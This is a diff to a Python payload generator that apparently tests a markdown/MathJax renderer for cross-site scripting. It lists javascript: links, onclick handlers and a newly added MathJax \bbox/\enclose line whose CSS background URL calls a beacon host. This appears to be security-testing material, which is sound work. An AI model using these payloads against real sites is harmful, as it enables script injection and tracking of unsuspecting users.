@@ -41,6 +41,7 @@ def payloads(beacon: int) -> list[str]:
         f"$\\href{{javascript:{js('mathjax-href')}}}{{mathclick}}$",
         f"$$\\href{{javascript:{js('mathjax-display')}}}{{mathclick2}}$$",
         f"\\(\\href{{javascript:{js('mathjax-paren')}}}{{mathclick3}}\\)",
+        f"$\\bbox[background:url({url}/bbox)]{{boxed}}$ $\\enclose{{box}}[style=\"background:url({url}/enclose)\"]{{x}}$",
         f'<form action="javascript:{js("form-action")}"><button>formclick</button></form>',
         f'<details><summary onclick="{js("summary-onclick")}">summaryclick</summary>x</details>',
         f'<a href="javascript:{js("raw-link")}">rawclick</a>',
